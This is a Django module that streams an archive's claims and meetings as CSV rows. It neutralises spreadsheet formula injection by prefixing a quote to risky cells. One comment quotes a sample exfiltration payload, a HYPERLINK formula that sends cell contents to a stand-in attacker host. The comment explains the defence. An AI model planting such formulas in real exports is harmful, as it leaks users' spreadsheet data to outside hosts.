"""Claims and meetings as rows for CSV and JSON. The columns are documented in the README and
stay stable: scripts depend on them. CSV streams the whole result, a chunk at a time."""

import csv
from collections.abc import Callable, Iterable, Iterator

from django.http import StreamingHttpResponse
from django.utils import timezone

from archive.models import Claim, Meeting

CLAIM_COLUMNS = (
    "claim_id",
    "permalink",
    "text",
    "side",
    "side_country",
    "speaker",
    "speaker_title",
    "kind",
    "issues",
    "meeting",
    "meeting_permalink",
    "meeting_start",
    "meeting_end",
    "report",
    "report_permalink",
    "publisher",
    "report_date",
    "account",
    "reported_by",
)

MEETING_COLUMNS = (
    "meeting_id",
    "permalink",
    "title",
    "start",
    "end",
    "place",
    "format",
    "countries",
    "claims",
)

CHUNK = 2000
ISSUE_SEPARATOR = "; "

Absolute = Callable[[str], str]


def claim_row(claim: Claim, absolute: Absolute) -> dict:
    speaker = claim.speaker
    return {
        "claim_id": claim.pk,
        "permalink": absolute(claim.get_absolute_url()),
        "text": claim.text,
        "side": claim.side_label,
        "side_country": "" if claim.joint else claim.delegation.country.code,
        "speaker": speaker.person.name if speaker else "",
        "speaker_title": speaker.title if speaker else "",
        "kind": claim.kind,
        "issues": [issue.name for issue in claim.issues.all()],
        "meeting": claim.meeting.title,
        "meeting_permalink": absolute(claim.meeting.get_absolute_url()),
        "meeting_start": claim.meeting.start_date.isoformat(),
        "meeting_end": claim.meeting.end_date.isoformat(),
        "report": claim.report.title,
        "report_permalink": absolute(claim.report.get_absolute_url()),
        "publisher": claim.report.publisher.name,
        "report_date": claim.report.date.isoformat(),
        "account": claim.provenance,
        "reported_by": claim.reported_by,
    }


def meeting_row(meeting: Meeting, absolute: Absolute) -> dict:
    return {
        "meeting_id": meeting.pk,
        "permalink": absolute(meeting.get_absolute_url()),
        "title": meeting.title,
        "start": meeting.start_date.isoformat(),
        "end": meeting.end_date.isoformat(),
        "place": meeting.place,
        "format": meeting.format,
        "countries": [d.country.code for d in meeting.delegations.all()],
        "claims": meeting.claim_count,
    }


class Echo:
    """A file-like object whose write returns the line, for csv.writer in a stream."""

    def write(self, value: str) -> str:
        return value


# A spreadsheet runs a cell that starts with one of these as a formula
# (=HYPERLINK("http://evil.example/x?"&A1,"Click")); OWASP's advice for CSV injection is to
# prefix such a cell with a single quote, which spreadsheets show as text. The JSON export
# keeps every text exactly as it is.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def flat(row: dict) -> dict:
    return {
        key: spreadsheet_safe(ISSUE_SEPARATOR.join(value) if isinstance(value, list) else value)
        for key, value in row.items()
    }


def csv_stream(
    records: Iterable, to_row: Callable, absolute: Absolute, columns: tuple[str, ...]
) -> Iterator[str]:
    writer = csv.DictWriter(Echo(), fieldnames=columns)
    yield "\ufeff"  # spreadsheet programs read UTF-8 correctly only with the mark
    yield writer.writeheader()
    for record in records:
        yield writer.writerow(flat(to_row(record, absolute)))


def csv_response(
    name: str, records: Iterable, to_row: Callable, absolute: Absolute, columns: tuple[str, ...]
) -> StreamingHttpResponse:
    response = StreamingHttpResponse(
        csv_stream(records, to_row, absolute, columns), content_type="text/csv; charset=utf-8"
    )
    stamp = timezone.localdate().isoformat()
    response["Content-Disposition"] = f'attachment; filename="{name}-{stamp}.csv"'
    return response
